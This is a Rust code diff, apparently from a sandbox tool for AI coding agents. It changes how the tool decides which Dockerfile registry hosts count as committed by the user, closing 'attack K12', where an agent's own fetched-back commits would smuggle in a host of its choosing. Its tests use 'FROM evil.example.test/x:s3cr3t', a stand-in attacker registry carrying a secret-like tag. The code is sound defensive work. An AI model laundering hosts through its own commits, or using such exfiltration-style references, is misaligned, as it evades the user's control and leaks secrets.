@@ -153,17 +153,91 @@ pub fn judge_registries(
 /// The most of a committed file devcell reads (bytes): a Dockerfile's bound.
 const COMMITTED_MAX: u64 = super::dockerfile::DOCKERFILE_MAX;
 
-/// The content of `path`'s version in `HEAD` of the repository it is in, read with devcell's
-/// hardened host git ([`crate::config::hostgit::command`]: nothing the repository configures
-/// runs) as data (`cat-file`, no filter or text conversion), at most [`COMMITTED_MAX`] bytes.
-/// `None` when there is none: not a repository, no `HEAD`, a file git does not track there,
-/// one too large, or git failing or not answering within its quick deadline. `path` is what
-/// the working tree's file resolves to (a link's target), so the committed file is the one
-/// read.
-pub fn committed_text(path: &Path) -> Option<String> {
+/// Where a fetch-back records, for each branch it moved forward or created with the agent's
+/// commits, the commit the user had before (`<BEFORE_AGENT>/heads/<branch>`; written once, so
+/// it stays at the user's commit through later sessions until the user deletes it). The agent's
+/// commits then in `HEAD` are not the user's: the committed side is read there too
+/// ([`committed_texts`]; attack K12, spec-note 0400).
+pub const BEFORE_AGENT: &str = "refs/devcell/before-agent";
+
+/// The revisions whose version of a file in the repository `folder` is in counts as committed:
+/// `HEAD`, and the user's commit a fetch-back recorded for the branch `HEAD` names
+/// ([`BEFORE_AGENT`]), as an object name. Empty when `folder` is in no repository or git does
+/// not answer within its quick deadline.
+fn committed_revisions(folder: &Path) -> Vec<String> {
+    let run = |args: &[&str]| -> Option<String> {
+        let mut git = crate::config::hostgit::command(folder, &[]);
+        git.args(args);
+        let out = crate::config::hostgit::output_within(
+            &mut git,
+            crate::config::hostgit::quick_deadline(),
+        )
+        .ok()?;
+        out.status
+            .success()
+            .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
+    };
+    if run(&["rev-parse", "--verify", "-q", "HEAD^{commit}"]).is_none() {
+        return Vec::new();
+    }
+    let mut revisions = vec!["HEAD".to_string()];
+    let before = run(&["symbolic-ref", "-q", "HEAD"])
+        .and_then(|branch| branch.strip_prefix("refs/").map(str::to_string))
+        .and_then(|short| {
+            run(&[
+                "rev-parse",
+                "--verify",
+                "-q",
+                &format!("{BEFORE_AGENT}/{short}^{{commit}}"),
+            ])
+        });
+    revisions.extend(before);
+    revisions
+}
+
+/// The committed versions of `path`: its content at each revision of [`committed_revisions`]
+/// (`HEAD`, then the commit the user had before a fetch-back brought the agent's commits into
+/// that branch), `None` where that revision has no such file. Empty when there is no committed
+/// version at all. A host counts as committed only when every version names it.
+pub fn committed_texts(path: &Path) -> Vec<Option<String>> {
+    let Some(folder) = path.parent() else {
+        return Vec::new();
+    };
+    let revisions = committed_revisions(folder);
+    match revisions.first() {
+        Some(head) if committed_text_at(path, head).is_some() => revisions
+            .iter()
+            .map(|rev| committed_text_at(path, rev))
+            .collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// The hosts every committed version names: the intersection of `hosts(index, text)` over
+/// `versions` (a missing version names none); empty when there are no versions.
+pub fn named_by_every(
+    versions: &[Option<String>],
+    mut hosts: impl FnMut(usize, &str) -> BTreeSet<String>,
+) -> BTreeSet<String> {
+    let mut sets = versions
+        .iter()
+        .enumerate()
+        .map(|(i, v)| v.as_deref().map(|text| hosts(i, text)).unwrap_or_default());
+    let first = sets.next().unwrap_or_default();
+    sets.fold(first, |all, set| all.intersection(&set).cloned().collect())
+}
+
+/// The content of `path`'s version in `rev` (`HEAD`, an object name) of the repository it is
+/// in, read with devcell's hardened host git ([`crate::config::hostgit::command`]: nothing the
+/// repository configures runs) as data (`cat-file`, no filter or text conversion), at most
+/// [`COMMITTED_MAX`] bytes. `None` when there is none: not a repository, no such revision, a
+/// file git does not track there, one too large, or git failing or not answering within its
+/// quick deadline. `path` is what the working tree's file resolves to (a link's target), so the
+/// committed file is the one read.
+pub fn committed_text_at(path: &Path, rev: &str) -> Option<String> {
     let folder = path.parent()?;
     let name = path.file_name()?.to_str()?;
-    let object = format!("HEAD:./{name}");
+    let object = format!("{rev}:./{name}");
     let run = |args: &[&str]| -> Option<Vec<u8>> {
         let mut git = crate::config::hostgit::command(folder, &[]);
         git.args(args);
@@ -352,15 +426,42 @@ mod tests {
         };
         let file = dir.join("Dockerfile");
         std::fs::write(&file, "FROM busybox\n").unwrap();
-        assert_eq!(committed_text(&file), None, "not a repository");
-        git(&["init", "-q"]);
-        assert_eq!(committed_text(&file), None, "no HEAD");
+        assert_eq!(committed_text_at(&file, "HEAD"), None, "not a repository");
+        git(&["init", "-q", "-b", "main"]);
+        assert_eq!(committed_text_at(&file, "HEAD"), None, "no HEAD");
         git(&["add", "Dockerfile"]);
         git(&["commit", "-q", "-m", "c"]);
         std::fs::write(&file, "FROM evil.example.test/x:s3cr3t\n").unwrap();
-        assert_eq!(committed_text(&file).as_deref(), Some("FROM busybox\n"));
+        assert_eq!(
+            committed_text_at(&file, "HEAD").as_deref(),
+            Some("FROM busybox\n")
+        );
+        // the agent's commit brought in by a fetch-back, with the user's commit recorded: both
+        // versions are read, and only a host both name counts as committed (attack K12)
+        let agents = "FROM busybox AS a\nFROM evil.example.test/x:s3cr3t\n".to_string();
+        std::fs::write(&file, &agents).unwrap();
+        git(&["commit", "-q", "-am", "agent"]);
+        assert_eq!(committed_texts(&file), vec![Some(agents.clone())]);
+        git(&[
+            "update-ref",
+            &format!("{BEFORE_AGENT}/heads/main"),
+            "HEAD~1",
+        ]);
+        let versions = committed_texts(&file);
+        assert_eq!(
+            versions,
+            vec![Some(agents), Some("FROM busybox\n".to_string())]
+        );
+        let hosts = |_, text: &str| dockerfile_hosts(text, &BTreeMap::new());
+        assert_eq!(
+            named_by_every(&versions, hosts),
+            BTreeSet::from(["docker.io".to_string()])
+        );
+        // a file the agent added has no version the user had: it names nothing committed
+        assert!(named_by_every(&[Some("FROM busybox\n".into()), None], hosts).is_empty());
+        assert!(named_by_every(&[], hosts).is_empty());
         let untracked = dir.join("Other");
         std::fs::write(&untracked, "FROM busybox\n").unwrap();
-        assert_eq!(committed_text(&untracked), None, "untracked");
+        assert_eq!(committed_text_at(&untracked, "HEAD"), None, "untracked");
     }
 }
